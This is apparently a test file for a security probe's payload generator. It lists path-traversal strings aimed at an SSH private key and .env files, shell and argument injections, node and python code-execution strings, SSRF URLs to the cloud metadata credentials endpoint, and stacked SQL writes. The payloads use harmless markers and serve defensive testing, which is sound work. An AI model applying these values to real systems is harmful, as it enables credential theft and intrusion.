import { attackOf, candidatesFor, fits, type PathUse, type PayloadContext } from '../../../src/probe/attack/payloads.js'

// The hostile values per role, for one marker: what each would make a program do is named by the marker
// (run or write /tmp/<marker>, contact <marker>.invalid), and path values aim at the planted places
// outside the declared scope.

const context: PayloadContext = {
  language: 'node',
  loopbackPort: 6379,
  outside: {
    home: '/home/alex',
    credential: '/home/alex/.ssh/id_rsa',
    siblings: [{ root: '/work/notes', dir: '/work/notes-backup', file: '/work/notes-backup/.env' }],
    links: [{ root: '/work/notes', name: 'shared', pointsTo: '/work/notes-backup', file: '/work/notes-backup/.env' }],
    fileLinks: [{ root: '/work/notes', name: 'shared.env', pointsTo: '/work/notes-backup/.env' }]
  }
}
const read: PathUse = { absolute: false, writes: false }
const made = (roles: Parameters<typeof candidatesFor>[0], use = read, strength: 'strong' | 'weak' = 'strong', ctx = context) =>
  candidatesFor(roles, strength, ctx, use).map((entry) => attackOf(entry, 'p', 'k3x9qa07'))

describe('candidatesFor', () => {
  it('path: climbs, the sibling, the planted links, the absolute key, encoded, one shell value, then separator tricks; relative to the root', () => {
    const attacks = made(['path'])
    expect(attacks.map((attack) => [attack.technique, attack.value, attack.target])).toEqual([
      ['climb', `${'../'.repeat(12)}home/alex/.ssh/id_rsa`, '/home/alex/.ssh/id_rsa'],
      ['climb-from-root', `/work/notes/${'../'.repeat(12)}home/alex/.ssh/id_rsa`, '/home/alex/.ssh/id_rsa'],
      ['sibling', '../notes-backup/.env', '/work/notes-backup/.env'],
      ['symlink', 'shared/.env', '/work/notes-backup/.env'],
      ['symlink-file', 'shared.env', '/work/notes-backup/.env'],
      ['absolute', '/home/alex/.ssh/id_rsa', '/home/alex/.ssh/id_rsa'],
      ['encoded', `${'%2e%2e%2f'.repeat(12)}home%2falex%2f%2essh%2fid_rsa`, '/home/alex/.ssh/id_rsa'],
      ['substitution', '$(/tmp/k3x9qa07)', undefined],
      ['strip-bypass', `${'....//'.repeat(12)}home/alex/.ssh/id_rsa`, '/home/alex/.ssh/id_rsa'],
      ['backslash', `${'..\\'.repeat(12)}home\\alex\\.ssh\\id_rsa`, '/home/alex/.ssh/id_rsa']
    ])
  })

  it('path, where the last value was absolute: from the root; where the tool writes: a new file named by the marker, never a canary', () => {
    const absolute = made(['path'], { absolute: true, writes: false })
    expect(absolute.slice(2, 5).map((attack) => attack.value)).toEqual(['/work/notes-backup/.env', '/work/notes/shared/.env', '/work/notes/shared.env'])
    const writes = made(['path'], { absolute: false, writes: true })
    expect(writes.slice(0, 5).map((attack) => [attack.value, attack.target])).toEqual([
      [`${'../'.repeat(12)}home/alex/k3x9qa07.txt`, '/home/alex/k3x9qa07.txt'],
      [`/work/notes/${'../'.repeat(12)}home/alex/k3x9qa07.txt`, '/home/alex/k3x9qa07.txt'],
      ['../notes-backup/k3x9qa07.txt', '/work/notes-backup/k3x9qa07.txt'],
      ['shared/k3x9qa07.txt', '/work/notes-backup/k3x9qa07.txt'],
      ['/home/alex/k3x9qa07.txt', '/home/alex/k3x9qa07.txt']
    ])
  })

  it('argv: options that write, run or call out, and shell values, alternately (--server= first for a cluster tool); a weak free string gets the three likeliest', () => {
    expect(made(['argv']).map((attack) => `${attack.class}:${attack.value}`)).toEqual([
      'argv:--output=/tmp/k3x9qa07',
      'shell:$(/tmp/k3x9qa07)',
      'argv:--upload-pack=/tmp/k3x9qa07',
      'shell:;/tmp/k3x9qa07;',
      'argv:--server=https://k3x9qa07.invalid:6443',
      "shell:';/tmp/k3x9qa07;'",
      'argv:--exec=/tmp/k3x9qa07',
      'argv:-o/tmp/k3x9qa07'
    ])
    expect(
      made(['argv'], { ...read, cluster: true })
        .slice(0, 3)
        .map((attack) => attack.technique)
    ).toEqual(['option-server', 'substitution', 'option-output'])
    expect(made(['argv'], read, 'weak').map((attack) => attack.value)).toEqual(['$(/tmp/k3x9qa07)', ';/tmp/k3x9qa07;', '--output=/tmp/k3x9qa07'])
  })

  it('command: every shell breakout', () => {
    expect(made(['command']).map((attack) => attack.technique)).toEqual([
      'substitution',
      'semicolon',
      'single-quote-break',
      'double-quote-break',
      'backtick',
      'newline',
      'pipe',
      'and'
    ])
  })

  it("code: in the server's language; both, alternately, when it is not known", () => {
    expect(made(['code'])[0]?.value).toBe("process.getBuiltinModule('child_process').execFileSync('/tmp/k3x9qa07')")
    expect(
      made(['code'], read, 'strong', { ...context, language: 'python' })
        .map((attack) => attack.technique)
        .slice(0, 2)
    ).toEqual(['python-os-system', 'python-open'])
    expect(
      made(['code'], read, 'strong', { ...context, language: 'unknown' })
        .map((attack) => attack.technique)
        .slice(0, 4)
    ).toEqual(['node-builtin', 'python-os-system', 'node-require', 'python-open'])
  })

  it('url: the metadata service, a loopback port, file:// to the key, a probe host; sql: a stacked write and a commit that ends a read-only transaction', () => {
    expect(
      made(['url'])
        .slice(0, 4)
        .map((attack) => attack.value)
    ).toEqual([
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-app-role',
      'http://127.0.0.1:6379/k3x9qa07',
      'file:///home/alex/.ssh/id_rsa',
      'http://k3x9qa07.invalid/'
    ])
    expect(made(['sql']).map((attack) => attack.value)).toEqual(['SELECT 1; CREATE TABLE k3x9qa07 (x int)', 'COMMIT; CREATE TABLE k3x9qa07 (x int)'])
  })

  it('a parameter of several roles gets each role in turn, without the same value twice', () => {
    const attacks = made(['url', 'path', 'argv'])
    const keys = attacks.map((attack) => `${attack.class}:${attack.technique}`)
    expect(new Set(keys).size).toBe(keys.length)
    expect(keys.slice(0, 4)).toEqual(['url:metadata', 'url:loopback', 'url:file', 'url:probe-host'])
  })
})

describe('fits', () => {
  it("judges a value against the parameter's own pattern and lengths (a value the schema refuses never reaches the code)", () => {
    expect(fits('--output=/tmp/k3x9qa07', { pattern: '^[a-zA-Z0-9._]+(?:[-._a-zA-Z0-9]*)$' })).toBe(false)
    expect(fits('main', { pattern: '^[a-zA-Z0-9._]+(?:[-._a-zA-Z0-9]*)$' })).toBe(true)
    expect(fits('$(/tmp/k3x9qa07)', { maxLength: 10 })).toBe(false)
    expect(fits('x', { minLength: 2 })).toBe(false)
    // a pattern JavaScript cannot read does not keep a value out
    expect(fits('anything', { pattern: '(?<' })).toBe(true)
  })
})
